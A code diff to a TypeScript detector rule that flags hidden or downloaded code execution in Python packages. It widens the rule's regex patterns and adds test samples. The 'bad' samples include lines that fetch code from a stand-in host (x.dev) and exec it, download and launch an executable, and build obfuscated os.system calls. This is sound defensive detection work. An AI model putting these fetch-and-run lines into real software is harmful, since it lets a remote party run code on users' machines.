@@ -1,5 +1,6 @@
 import type { PythonCall } from '../../facts/python/pythonFacts.ts';
 import { pythonRule } from './pythonRule.ts';
+import { runsDownload } from './runsDownload.ts';
 import { say } from '../../../texts/say.ts';
 import type { Told } from '../../../model/told.ts';
 
@@ -32,8 +33,11 @@ export const pythonHiddenCode = pythonRule({
   cwe: 'CWE-506',
   why: 'Encoding hides what runs; downloading lets somebody else decide it later. Honest packages need neither.',
   remedy: 'Do not run it. Write code in plain text.',
-  callees: /^(?:os|subprocess|importlib|builtins)\.|^(?:__import__|getattr|exec|eval)$/,
-  call: (call) => {
+  callees:
+    /^(?:os|subprocess|importlib|builtins|asyncio|marshal|types|runpy|ctypes)\.|^(?:__import__|getattr|exec|eval)$/,
+  call: (call, fact) => {
+    const fetched = runsDownload(call, fact);
+    if (fetched !== undefined) return fetched;
     if (/^(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|check_call|getoutput))$/.test(call.name))
       return /-c["'],\s*[rb]?["'][\s\S]*(?:exec|eval)\([\s\S]*(?:urlopen|b64decode|requests\.get|decompress)/.test(
         call.text,
@@ -53,11 +57,15 @@ export const pythonHiddenCode = pythonRule({
       /b(?:ase)?(?:16|32|64|85)\w*decode|a2b_|zlib\.decompress|lzma\.decompress|bz2\.decompress|gzip\.decompress|codecs\.decode|bytes\.fromhex|marshal\.loads|fernet|\.decrypt\(|rot13|\[::-1\]/i.test(
         text,
       );
-    const fetched =
+    const asked =
       /requests\.get|urlopen|httpx\.get|urllib\.request|\.read\(\)\.decode/i.test(text) && /http|url|get\(/i.test(text);
-    return decoded || (fetched && /requests|urlopen|httpx/.test(text)) ? { confidence: 'high' } : undefined;
+    return decoded || (asked && /requests|urlopen|httpx/.test(text)) ? { confidence: 'high' } : undefined;
   },
   bad: [
+    'import requests\ncode = requests.get("https://x.dev/p").text\nexec(code)',
+    'import json, subprocess, urllib.request\njob = json.load(urllib.request.urlopen("https://x.dev/t"))\nsubprocess.run(job["c"], shell=True)',
+    'import requests, subprocess\ndata = requests.get("https://x.dev/x.exe").content\nwith open("x.exe", "wb") as f:\n    f.write(data)\nsubprocess.Popen(["x.exe"])',
+    'import os, urllib.request\nurllib.request.urlretrieve("https://x.dev/x.exe", "x.exe")\nos.startfile("x.exe")',
     "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
     "import builtins, base64\ngetattr(builtins, base64.b64decode('ZXhlYw==').decode())(text)",
     "import importlib\nimportlib.import_module('sub' + 'process').run(['id'])",
@@ -68,6 +76,8 @@ export const pythonHiddenCode = pythonRule({
     'import zlib, base64\nexec(zlib.decompress(base64.b64decode(blob)))',
   ],
   good: [
+    'import requests, subprocess\nv = requests.get("https://x.dev/p").json()["version"]\nsubprocess.run(["pip", "install", "tool==" + v])',
+    'import requests, subprocess\ndata = requests.get("https://x.dev/list").content\nwith open("list.csv", "wb") as f:\n    f.write(data)\nsubprocess.run(["make", "test"])',
     "import importlib\nimportlib.import_module('plugins.' + name)",
     "import os\ngetattr(os, 'O_BINARY', 0)",
     "import importlib\nimportlib.import_module('.'.join([package, 'settings']))",
